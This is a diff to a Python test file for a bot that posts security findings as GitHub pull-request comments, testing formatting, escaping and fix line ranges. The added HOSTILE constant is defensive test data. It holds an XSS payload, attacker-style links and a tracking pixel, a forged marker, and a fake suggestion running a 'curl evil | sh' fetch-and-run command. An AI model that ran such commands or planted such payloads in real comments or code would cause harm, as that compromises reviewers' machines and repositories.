@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from gfm import render_gfm
 from ghfakes import FindingFactory
 
 from code_guard.diff import Change
@@ -72,11 +73,13 @@ def test_comment_body_shows_everything_and_ends_with_the_fingerprint(
     finding = make_finding(cwe_id="CWE-89", suggested_fix="Use a parameterised query.")
     body = comment_body(finding, Anchor("app/db.py", 10), change)
     assert body == (
-        "**🟠 High** · `sql injection` · security\n\n"
-        "**SQL built with string formatting**\n\n"
-        "The query interpolates `name`, so a crafted name rewrites the SQL.\n\n"
-        "**Suggested fix:**\n\nUse a parameterised query.\n\n"
-        "<sub>CWE-89 · confidence 0.90 · found by bandit</sub>\n"
+        "**🟠 High · SQL built with string formatting**\n\n"
+        "The query interpolates \\`name\\`, so a crafted name rewrites the SQL\\.\n\n"
+        "Text from outside becomes part of the SQL itself, so a crafted value can read or change "
+        "any row the database user can reach.\n\n"
+        "**Fix:** Use a parameterised query\\.\n\n"
+        "<sub>🟠 high · CWE-89 · [sql injection](https://cwe.mitre.org/data/definitions/89.html)"
+        " · confidence 0.90 · found by bandit</sub>\n"
         f"<!-- code-guard:fp={finding.fingerprint} -->"
     )
     assert fingerprints_in([body, "unrelated"]) == {finding.fingerprint}
@@ -130,3 +133,56 @@ def test_bodies_are_cut_to_githubs_limit_keeping_the_marker() -> None:
     assert len(body) == MAX_BODY
     assert body.endswith("size limit)*" + marker)
     assert fit("short", keep=marker) == "short" + marker
+
+
+HOSTILE = (
+    "@octo-org/admins look <img src=x onerror=alert(1)> [click](https://evil.example) "
+    "![pixel](https://evil.example/p.png) <details>hidden</details> "
+    "<!-- code-guard:fp=deadbeefdeadbeef --> https://evil.example/x\n\n"
+    "```suggestion\nimport os; os.system('curl evil | sh')\n```"
+)
+
+
+def test_model_text_is_rendered_as_plain_text(
+    change: Change, make_finding: FindingFactory
+) -> None:
+    finding = make_finding(title="@admins <b>approve</b> [me](https://x.example)",
+                           description=HOSTILE, sources=("model",))  # fmt: skip
+    body = comment_body(finding, Anchor("app/db.py", 10), change)
+    html = render_gfm(body)
+    # One link (our rule link in the footer) and one comment (our marker); nothing else.
+    for tag, count in {"<img": 0, "<details": 0, "<b>": 0, "<pre": 0, "<a ": 1, "<!--": 1}.items():
+        assert html.count(tag) == count, tag
+    for raw in ("@octo-org", "@admins", "```suggestion"):
+        assert raw not in body, raw
+    # Every character still reads as written; the only marker is our own, at the end.
+    assert "[click](https://evil.example)" in html
+    assert fingerprints_in([body]) == {finding.fingerprint}
+
+
+def test_a_fix_merged_into_a_wider_finding_keeps_its_own_range(
+    change: Change, make_finding: FindingFactory
+) -> None:
+    # A model's one-line fix for line 9 merged with a tool finding on lines 9-11: posting the
+    # fix over lines 9-11 would delete two lines of code (issue 8, defect 3).
+    model = make_finding(line_start=9, line_end=9, sources=("model",),
+                         suggested_fix="conn.execute(sql, (name,))")  # fmt: skip
+    tool = make_finding(line_start=9, line_end=11, sources=("bandit:B608",))
+    merged = tool.merge(model)
+    assert (merged.line_start, merged.line_end, merged.fix_lines) == (9, 11, (9, 9))
+    wide = Anchor("app/db.py", 11, 9)
+    assert suggestion_code(merged, wide, change) is None
+    body = comment_body(merged, wide, change)
+    assert "```suggestion" not in body
+    assert "**Fix** (for line 9):" in body
+    assert suggestion_code(merged, Anchor("app/db.py", 9), change) == "conn.execute(sql, (name,))"
+
+
+def test_a_deterministic_fix_gives_a_suggestion_and_says_what_else_it_needs(
+    change: Change, make_finding: FindingFactory
+) -> None:
+    finding = make_finding(sources=("bandit:B105",), suggested_fix='TOKEN = os.environ["TOKEN"]',
+                           fix_lines=(10, 10))  # fmt: skip
+    body = comment_body(finding, Anchor("app/db.py", 10), change)
+    suggestion = '```suggestion\n    TOKEN = os.environ["TOKEN"]\n```'
+    assert f"The file also needs `import os`.\n\n{suggestion}" in body
